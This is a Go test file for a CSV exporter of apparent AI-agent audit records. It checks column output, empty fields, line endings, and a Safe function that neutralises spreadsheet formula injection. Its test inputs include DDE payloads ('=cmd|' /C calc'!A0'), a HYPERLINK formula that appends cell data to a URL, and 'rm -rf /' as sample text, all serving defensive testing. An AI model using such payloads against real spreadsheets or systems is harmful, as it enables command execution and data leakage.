package csv_test

import (
	"bytes"
	stdcsv "encoding/csv"
	"encoding/json"
	"slices"
	"strings"
	"testing"
	"time"

	"github.com/google/go-cmp/cmp"

	"github.com/etch-audit/etch"
	"github.com/etch-audit/etch/export/csv"
)

func write(t testing.TB, opt csv.Options, records ...etch.Record) string {
	t.Helper()
	var out bytes.Buffer
	w := csv.NewWriter(&out, opt)
	for i := range records {
		if err := w.Add(&records[i]); err != nil {
			t.Fatal(err)
		}
	}
	if err := w.Close(); err != nil {
		t.Fatal(err)
	}
	return out.String()
}

// rows reads it back with another implementation.
func rows(t testing.TB, text string) [][]string {
	t.Helper()
	all, err := stdcsv.NewReader(strings.NewReader(text)).ReadAll()
	if err != nil {
		t.Fatalf("read back: %v\n%s", err, text)
	}
	return all
}

func full() etch.Record {
	return etch.Record{
		Seq:       17,
		Signature: "SHA256:abc",
		Cuts:      []etch.Cut{{Member: "action.command"}},
		Event: etch.Event{
			Timestamp: time.Date(2026, 2, 16, 12, 34, 56, 123456000, time.UTC),
			ID:        "evt_1", Type: etch.CommandExecution, Phase: etch.Completion,
			CallID: "call", SessionID: "session", TurnID: "turn", TraceID: "trace",
			Actor: &etch.Actor{
				Channel: "telegram", UserID: "123", Username: "@alice", Agent: "agent", AgentID: "agent-id",
				Model: "model", CallerID: "caller", Host: "host",
			},
			Action: &etch.Action{
				Tool: "shell", Command: "=cmd|' /C calc'!A0", Arguments: json.RawMessage(`{"a":1}`), Resource: "r", Cwd: "/",
				Risk: etch.RiskHigh, RiskReasons: []string{"a && b", "c"}, Approved: true, ApprovedBy: "bob", Allowed: true,
				ClaimSource: etch.ClaimShell, MCPServerID: "mcp", Skill: "skill",
			},
			Result: &etch.Result{
				Type: etch.Error, Reason: "reason", Message: "two\nlines", Restored: etch.Some(uint64(1)), Deleted: etch.Some(uint64(2)),
				ExitCode: etch.Some(int64(-1)), Duration: 1500 * time.Millisecond, Truncated: true,
				ErrorCategory: "category", ErrorDomain: "domain", ErrorPhase: "phase",
				OutputBytes: etch.Some(uint64(3)), OutputSHA256: "sum",
			},
			Security: &etch.Security{
				PolicyViolation: true, RateLimitRemaining: etch.Some(uint64(0)), SandboxBackend: "sandbox", PolicyMatch: "match",
				AdversarialPolicyDecision: "deny:x", InjectionFlagged: true, EmbeddingAnomalous: true, CrossBoundaryMCPToACP: true,
				TrustLevel: "trust", SourceKind: "source", Redactions: 4,
			},
			Egress: &etch.Egress{
				URL: "https://example.com/", Host: "example.com", Method: "GET", Status: etch.Some(int64(200)),
				ResponseBytes: etch.Some(uint64(5)), Blocked: true, BlockReason: "blocked", Hop: etch.Some(uint64(6)),
			},
			Labels: map[string]string{"b": "2", "a": "1"},
		},
	}
}

func TestEveryMember(t *testing.T) {
	got := rows(t, write(t, csv.Options{Sealed: func(seq uint64) bool { return seq < 17 }}, full()))
	if len(got) != 2 {
		t.Fatalf("%d rows, want the names and one more", len(got))
	}
	cells := map[string]string{}
	for i, name := range got[0] {
		cells[name] = got[1][i]
	}
	want := map[string]string{
		"seq": "17", "timestamp": "2026-02-16T12:34:56.123456Z", "event_id": "evt_1", "event_type": "command_execution",
		"phase": "completion", "call_id": "call", "session_id": "session", "turn_id": "turn", "trace_id": "trace",
		"actor.channel": "telegram", "actor.user_id": "123", "actor.username": "'@alice", "actor.agent": "agent",
		"actor.agent_id": "agent-id", "actor.model": "model", "actor.caller_id": "caller", "actor.host": "host",
		"action.tool": "shell", "action.command": "'=cmd|' /C calc'!A0", "action.arguments": `{"a":1}`, "action.resource": "r",
		"action.cwd": "/", "action.risk_level": "high", "action.risk_reasons": `["a && b","c"]`, "action.approved": "true",
		"action.approved_by": "bob", "action.allowed": "true", "action.claim_source": "shell", "action.mcp_server_id": "mcp",
		"action.skill":   "skill",
		"result.success": "false", "result.type": "error", "result.reason": "reason", "result.message": "two\nlines",
		"result.restored": "1", "result.deleted": "2", "result.exit_code": "-1", "result.duration_ms": "1500",
		"result.truncated": "true", "result.error_category": "category", "result.error_domain": "domain",
		"result.error_phase": "phase", "result.output_bytes": "3", "result.output_sha256": "sum",
		"security.policy_violation": "true", "security.rate_limit_remaining": "0", "security.sandbox_backend": "sandbox",
		"security.policy_match": "match", "security.adversarial_policy_decision": "deny:x", "security.injection_flagged": "true",
		"security.embedding_anomalous": "true", "security.cross_boundary_mcp_to_acp": "true", "security.trust_level": "trust",
		"security.source_kind": "source", "security.redactions": "4",
		"egress.url": "https://example.com/", "egress.host": "example.com", "egress.method": "GET", "egress.status": "200",
		"egress.response_bytes": "5", "egress.blocked": "true", "egress.block_reason": "blocked", "egress.hop": "6",
		"labels": `{"a":"1","b":"2"}`, "truncated": "true", "log": "", "signature": "SHA256:abc", "sealed": "false",
	}
	if diff := cmp.Diff(cells, want); diff != "" {
		t.Errorf("cells (-got +want):\n%s", diff)
	}
	if !slices.Equal(got[0][:len(got[0])-1], csv.Columns()) {
		t.Errorf("names %q, Columns() %q", got[0], csv.Columns())
	}
}

// What is absent is empty, and zero is not.
func TestAbsent(t *testing.T) {
	event := etch.Record{Event: etch.Event{Type: etch.UserPrompt, Result: &etch.Result{ExitCode: etch.Some(int64(0))}}}
	control := etch.Record{Seq: 1, Control: &etch.Control{Type: "log_sealed", Log: json.RawMessage(`{"epoch":0}`)}}
	got := rows(t, write(t, csv.Options{}, event, control))
	at := func(row int, name string) string { return got[row][slices.Index(got[0], name)] }
	for _, test := range []struct {
		row        int
		name, want string
	}{
		{1, "actor.username", ""},
		{1, "action.approved", ""},
		{1, "security.redactions", ""},
		{1, "egress.status", ""},
		{1, "labels", ""},
		{1, "log", ""},
		{1, "result.exit_code", "0"},
		{1, "result.restored", ""},
		{1, "truncated", "false"},
		{2, "event_type", "log_sealed"},
		{2, "log", `{"epoch":0}`},
		{2, "result.success", ""},
	} {
		if got := at(test.row, test.name); got != test.want {
			t.Errorf("row %d, %s = %q, want %q", test.row, test.name, got, test.want)
		}
	}
}

func TestNoRecords(t *testing.T) {
	got := write(t, csv.Options{})
	if want := strings.Join(csv.Columns(), ",") + "\r\n"; got != want {
		t.Errorf("got %q, want %q", got, want)
	}
}

func TestSafe(t *testing.T) {
	for _, test := range []struct {
		in      string
		guarded bool
	}{
		{"", false},
		{"ls -la", false},
		{"a=b", false},
		{"rm -rf /", false},
		{"/bin/sh", false},
		{"[1]", false},
		{`"=1"`, false},
		{"=1+1", true},
		{"+1", true},
		{"-1", true},
		{"@SUM(A1)", true},
		{"@alice", true},
		{"=HYPERLINK(\"http://example.com/?\"&A1)", true},
		{"=cmd|'/C calc'!A0", true},
		{"-2+3+cmd|' /C calc'!A0", true},
		{"\t=1", true},
		{"\tls", true},
		{"\r=1", true},
		{"\n=1", true},
		{" =1", true},
		{"\u00a0=1", true},
		{"\ufeff=1", true},
		{"\u200b\u200b+1", true},
		{"\x00=1", true},
		{"\xff=1", true},
		{"＝1", true},
		{"＋1", true},
		{"－1", true},
		{"＠x", true},
		{"−1", true},
		{"'", true},
		{"'=1", true},
		{"'quoted'", true},
	} {
		got, want := csv.Safe(test.in), test.in
		if test.guarded {
			want = "'" + test.in
		}
		if got != want {
			t.Errorf("Safe(%q) = %q, want %q", test.in, got, want)
		}
	}
}

// A row whatever the text is: no cell begins a formula, and the text comes back.
func FuzzSafe(f *testing.F) {
	for _, text := range []string{"=1", "a\r\nb", `"`, "'", "\t", "x;=1", "a,b", " ", "\xff"} {
		f.Add(text)
	}
	f.Fuzz(func(t *testing.T, text string) {
		safe := csv.Safe(text)
		if back, guarded := strings.CutPrefix(safe, "'"); guarded && back != text || !guarded && safe != text {
			t.Errorf("Safe(%q) = %q does not give the text back", text, safe)
		}
		if safe != "" && strings.ContainsRune("=+-@\t\r\n", rune(safe[0])) {
			t.Errorf("Safe(%q) = %q begins a formula", text, safe)
		}
		record := etch.Record{Event: etch.Event{Action: &etch.Action{Command: text, Tool: text}}}
		out := write(t, csv.Options{}, record)
		if strings.Contains(text, "\r") {
			return // the reader of package csv takes \r\n for \n
		}
		got := rows(t, out)
		if cell := got[1][slices.Index(got[0], "action.command")]; cell != safe {
			t.Errorf("%q is read back as %q", safe, cell)
		}
	})
}

// Carriage returns inside a text stay, and only the ends of rows are CRLF.
func TestLineEnds(t *testing.T) {
	record := etch.Record{Event: etch.Event{Action: &etch.Action{Command: "a\rb\nc\r\nd"}}}
	out := write(t, csv.Options{}, record)
	if !strings.Contains(out, "\"a\rb\nc\r\nd\"") {
		t.Errorf("the text is not as it was: %q", out)
	}
	if n := strings.Count(out, "\r\n"); n != 3 { // two rows, one in the text
		t.Errorf("%d CRLF in %q", n, out)
	}
}
